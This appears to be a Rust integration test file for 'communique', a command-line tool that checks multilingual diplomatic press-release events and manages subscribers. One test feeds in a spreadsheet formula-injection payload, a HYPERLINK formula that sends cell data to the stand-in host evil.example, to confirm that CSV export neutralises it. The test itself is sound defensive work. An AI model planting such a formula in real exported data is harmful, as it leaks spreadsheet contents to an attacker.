//! The `communique` binary as a press officer meets it: checking events, the schema, exit codes.

mod support;

use support::example_events;

use std::path::Path;
use std::process::{Command, Output};

fn communique(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_communique"))
        .args(args)
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .output()
        .expect("the binary runs")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

#[test]
fn check_accepts_every_example_event() {
    let files = example_events();
    assert!(files.len() >= 6, "the seed and at least five more examples");
    let mut args = vec!["check", "--langs", "kk,ru,es,en"];
    args.extend(files.iter().map(String::as_str));
    let out = communique(&args);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(
        text(&out.stdout)
            .lines()
            .filter(|l| l.starts_with("ok  "))
            .count(),
        files.len()
    );
}

#[test]
fn check_reports_every_problem_of_a_broken_event_with_file_path_and_position() {
    let seed = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("examples/events/kz-mx-political-consultations-2022.json"),
    )
    .unwrap();
    let broken = seed
        .replacen("\"round\": 3", "\"round\": \"3\"", 1)
        .replacen(
            "\"press_service\": { \"country\": \"KZ\", \"body\": \"foreign_ministry\" }",
            "\"press_service\": { \"country\": \"KZ\", \"body\": \"foreign_office\" }",
            1,
        )
        .replacen(
            "\"city\": \"mexico_city\"",
            "\"city\": { \"en\": \"Mexico City\", \"ru\": \"Мехико\", \"kk\": \"Мехико\", \"fr\": \"Ciudad de México\" }",
            1,
        )
        .replacen(
            "\"open_until\": \"2023-01\"",
            "\"open_until\": \"2023-02-30\"",
            1,
        );
    let scratch = support::Scratch::new("cli");
    let file = scratch.write("broken.json", &broken);
    let out = communique(&["check", file.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let err = text(&out.stderr);
    let f = file.display().to_string();
    for expected in [
        format!("{f}:5:57: kind.round: invalid type: string \"3\", expected u32"),
        format!("{f}:12:82: source.press_service.body: unknown variant `foreign_office`"),
        format!("{f}:9:74: place.city.fr: unknown variant `fr`"),
        format!("{f}:9:13: place.city.es: the text in `es` is missing"),
        format!("{f}:114:21: side_events[2].open_until: invalid date `2023-02-30`: no such day"),
    ] {
        assert!(err.contains(&expected), "missing {expected:?} in\n{err}");
    }
    assert!(err.contains("5 problems"), "{err}");
    assert!(out.stdout.is_empty());
}

#[test]
fn check_fails_on_a_style_finding_and_names_it_unless_allowed() {
    let event = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("examples/events/kz-uy-political-consultations-montevideo-2024.json"),
    )
    .unwrap();
    // A paragraph whose two sentences open alike, in every language.
    let formlike = event.replacen(
        "\"paragraphs\": [",
        r#""paragraphs": [
    {
      "en": "The parties praised the talks. The parties agreed to meet again.",
      "ru": "Стороны высоко оценили переговоры. Стороны договорились встретиться вновь.",
      "kk": "Тараптар келіссөздерді жоғары бағалады. Тараптар қайта кездесуге келісті.",
      "es": "Las partes elogiaron las conversaciones. Las partes acordaron volver a reunirse."
    },"#,
        1,
    );
    assert_ne!(formlike, event);
    let scratch = support::Scratch::new("cli-style");
    let file = scratch.write("formlike.json", &formlike);
    let out = communique(&["check", file.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
    let err = text(&out.stderr);
    for expected in [
        "[en] two sentences in a row open with “the parties”",
        "[ru] two sentences in a row open with “стороны",
        "[kk] two sentences in a row open with “тараптар",
        "[es] two sentences in a row open with “las partes”",
        "4 style findings",
    ] {
        assert!(err.contains(expected), "missing {expected:?} in\n{err}");
    }
    let allowed = communique(&["check", "--allow-style", file.to_str().unwrap()]);
    assert!(allowed.status.success(), "{}", text(&allowed.stderr));
    assert!(text(&allowed.stderr).contains("[en] two sentences in a row open with"));
}

#[test]
fn check_names_an_unreadable_file_and_exits_2() {
    let out = communique(&["check", "no/such/event.json"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).contains("cannot read no/such/event.json"));
}

#[test]
fn schema_printed_is_the_committed_one() {
    let out = communique(&["schema"]);
    assert!(out.status.success());
    let committed = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/event.schema.json"),
    )
    .unwrap();
    assert!(
        text(&out.stdout) == committed,
        "docs/event.schema.json is stale: run `cargo run -q -- schema > docs/event.schema.json`"
    );
}

#[test]
fn usage_errors_exit_2_and_help_documents_exit_codes() {
    let out = communique(&["publish", "x.json", "--langs", "kk,de"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).contains("unknown language `de`"));
    let help = communique(&["--help"]);
    let help = text(&help.stdout);
    assert!(help.contains("2  invalid input or usage"), "{help}");
    for sub in [
        "publish",
        "preview",
        "check",
        "schema",
        "subscribers",
        "schedule",
        "scheduler",
        "status",
    ] {
        assert!(help.contains(sub), "{sub} missing from --help");
    }
}

#[test]
fn check_forms_prints_every_case_form_and_where_it_came_from() {
    let out = communique(&["check", "--forms", support::SEED]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let stdout = text(&out.stdout);
    let line = |path: &str, case: &str| {
        stdout
            .lines()
            .find(|l| {
                let cols: Vec<&str> = l.split_whitespace().collect();
                cols.first() == Some(&path) && cols.get(1) == Some(&case)
            })
            .unwrap_or_else(|| panic!("no {path} {case} line in:\n{stdout}"))
            .to_owned()
    };
    // Given only in the nominative, declined by rule.
    assert!(line("people.arystanov.name.ru", "gen").ends_with("rule   Нургали Арыстанова"));
    assert!(line("people.arystanov.name.kk", "dat").ends_with("rule   Нұрғали Арыстановқа"));
    assert!(line("place.city.kk", "loc").ends_with("rule   Мехикода"));
    // A free-text counterpart, declined by its head noun.
    assert!(
        line("side_events[1].with.ru", "gen")
            .ends_with("rule   представителя Институциональной фондовой биржи (BIVA)")
    );
    // Worded by the locale from a structured office, not written in the event.
    assert!(
        line("people.arystanov.position.ru", "nom")
            .ends_with("locale директор Департамента Америки МИД РК")
    );
    for lang in ["kk", "ru"] {
        assert!(stdout.contains(&format!(
            "forms  kz-mx-political-consultations-2022 [{lang}]"
        )));
    }
}

/// `subscribers import FILE --list r`, with `extra`.
fn import(s: &support::Scratch, csv: &Path, extra: &[&str]) -> Output {
    let mut args = vec![
        "subscribers",
        "import",
        csv.to_str().unwrap(),
        "--list",
        "r",
    ];
    args.extend(extra);
    s.run(&args)
}

#[test]
fn exported_subscribers_never_open_as_spreadsheet_formulas_and_the_store_keeps_them_exact() {
    let s = support::Scratch::new("export-formulas");
    let name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
    let csv = s.write(
        "readers.csv",
        &format!(
            "email,name,lang,phone,note\n\
             ana@example.org,\"{}\",en,+7 727 000 00 00,@SUM(1+1)\n\
             bob@example.org,-2+3,ru,12,plain\n",
            name.replace('"', "\"\"")
        ),
    );
    support::assert_success(&import(&s, &csv, &[]));
    let export = s.run(&["subscribers", "export"]);
    support::assert_success(&export);
    let mut reader = csv::Reader::from_reader(export.stdout.as_slice());
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    // email, name, lang, status, note, phone
    assert_eq!(rows[0][1], format!("'{name}"));
    assert_eq!(rows[0][4], "'@SUM(1+1)");
    assert_eq!(rows[0][5], "'+7 727 000 00 00");
    assert_eq!(rows[1][1], "'-2+3");
    assert_eq!((rows[1][4].as_str(), rows[1][5].as_str()), ("plain", "12"));
    // The store holds what was entered.
    let list = text(&s.run(&["subscribers", "list"]).stdout);
    assert!(
        list.lines()
            .any(|l| l.starts_with("ana@example.org\t") && l.ends_with(&format!("\t{name}"))),
        "{list}"
    );
}

/// Runs a command that should end by itself; kills it and fails if it is still running after
/// `secs` (a server that started instead of refusing to).
fn ends_within(mut command: Command, secs: u64) -> Output {
    let mut child = command
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
    while child.try_wait().unwrap().is_none() {
        if std::time::Instant::now() > deadline {
            let _ = child.kill();
            let out = child.wait_with_output().unwrap();
            panic!("still running after {secs} s:\n{}", text(&out.stderr));
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    child.wait_with_output().unwrap()
}

#[test]
fn serve_refuses_a_store_or_secret_that_does_not_exist_unless_told_to_create_them() {
    let s = support::Scratch::new("serve-missing");
    let serve = ["serve", "--listen", "127.0.0.1:0"];
    // A wrong --db would serve an empty store: every genuine link would get 404.
    let out = ends_within(s.command(&serve), 20);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("there is no store at") && err.contains("--create"),
        "{err}"
    );
    assert!(!s.path("communique.db").exists());
    // A store, but no secret: serve and unsubscribe create none (it would verify no link).
    let csv = s.write("readers.csv", &support::subscribers_csv(2));
    support::assert_success(&import(&s, &csv, &[]));
    for args in [&serve[..], &["unsubscribe", "abc.def"]] {
        let mut command = s.command(args);
        command.env_remove("COMMUNIQUE_TOKEN_SECRET");
        let out = ends_within(command, 20);
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {err}");
        assert!(err.contains("no token secret"), "{args:?}: {err}");
        assert!(!s.path("communique.secret").exists(), "{args:?}");
    }
    // --create starts anew, and says that it created the secret.
    let fresh = support::Scratch::new("serve-create");
    let mut child = fresh
        .command(&["serve", "--listen", "127.0.0.1:0", "--create"])
        .env_remove("COMMUNIQUE_TOKEN_SECRET")
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut log = String::new();
    let mut lines = std::io::BufRead::lines(std::io::BufReader::new(child.stderr.take().unwrap()));
    for line in lines.by_ref() {
        let line = line.unwrap();
        log.push_str(&line);
        log.push('\n');
        if line.contains("listening on") {
            break;
        }
    }
    let _ = Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status();
    child.wait().unwrap();
    assert!(log.contains("listening on"), "{log}");
    assert!(log.contains("note: created"), "{log}");
    assert!(fresh.path("communique.db").exists() && fresh.path("communique.secret").exists());
}

#[test]
fn every_service_example_uses_one_store_and_one_secret() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let store = "COMMUNIQUE_DB=/srv/communique/communique.db";
    let secret = "COMMUNIQUE_TOKEN_SECRET_FILE=/etc/communique/token.secret";
    for unit in ["communique-scheduler.service", "communique-serve.service"] {
        let text = std::fs::read_to_string(root.join("dist").join(unit)).unwrap();
        for needed in ["WorkingDirectory=/srv/communique", store, secret] {
            assert!(text.contains(needed), "{unit} lacks {needed}");
        }
    }
    let serve = std::fs::read_to_string(root.join("dist/communique-serve.service")).unwrap();
    assert!(serve.contains("serve --listen 127.0.0.1:8080 --db /srv/communique/communique.db"));
    // The cron example: the same store and secret, and secrets.env's variables exported.
    let readme = std::fs::read_to_string(root.join("README.md")).unwrap();
    let cron = readme
        .lines()
        .find(|l| l.starts_with("* * * * *"))
        .expect("the README's cron example");
    for needed in [store, secret, "set -a"] {
        assert!(
            cron.contains(needed),
            "the cron example lacks {needed}: {cron}"
        );
    }
}

#[test]
fn an_import_without_strict_whose_rows_are_all_bad_does_not_blame_strict() {
    let s = support::Scratch::new("all-bad");
    let csv = s.write(
        "readers.csv",
        "email,name,lang\nnot-an-email,A,en\nb@example.org,B,de\n",
    );
    let out = import(&s, &csv, &[]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("no row was good: nothing was imported"),
        "{err}"
    );
    assert!(!err.contains("--strict"), "{err}");
    // With --strict, it says that --strict is why.
    let out = import(&s, &csv, &["--strict"]);
    assert!(text(&out.stderr).contains("nothing was imported (--strict)"));
}

#[test]
fn a_people_directory_gives_the_people_an_event_names_and_a_broken_one_is_refused() {
    let scratch = support::Scratch::new("people");
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut people: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(root.join("examples/people.json")).unwrap())
            .unwrap();
    // The seed names the President without defining him: the directory named says who he is.
    people["people"]["tokayev"]["name"]["en"] = "Kassym-Jomart K. Tokayev".into();
    let dir = scratch.write("people.json", &people.to_string());
    let out = communique(&[
        "--people",
        dir.to_str().unwrap(),
        "preview",
        support::SEED,
        "--langs",
        "en",
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(
        text(&out.stdout).contains("Kazakh President Kassym-Jomart K. Tokayev"),
        "{}",
        text(&out.stdout)
    );
    // Without --people, the built-in example directory.
    let out = communique(&["preview", support::SEED, "--langs", "en"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(text(&out.stdout).contains("Kassym-Jomart Tokayev"));

    // A person the directory lacks: the event's path, the id, what to do.
    people["people"].as_object_mut().unwrap().remove("tokayev");
    let dir = scratch.write("people.json", &people.to_string());
    let out = communique(&["--people", dir.to_str().unwrap(), "check", support::SEED]);
    assert_eq!(out.status.code(), Some(2));
    let err = text(&out.stderr);
    assert!(
        err.contains("statements[0].to: no person `tokayev` in `people`"),
        "{err}"
    );
    // A broken directory: its own file, line:column and path; nothing checked past it.
    let broken = scratch.write(
        "broken.json",
        "{\n  \"format\": \"communique.people/1\",\n  \"people\": { \"x\": { \"name\": 3 } }\n}\n",
    );
    let out = communique(&["--people", broken.to_str().unwrap(), "check", support::SEED]);
    assert_eq!(out.status.code(), Some(2));
    let err = text(&out.stderr);
    assert!(
        err.contains(&format!("{}:3:", broken.display())) && err.contains("people.x.name"),
        "{err}"
    );
    assert!(out.stdout.is_empty(), "{}", text(&out.stdout));
}
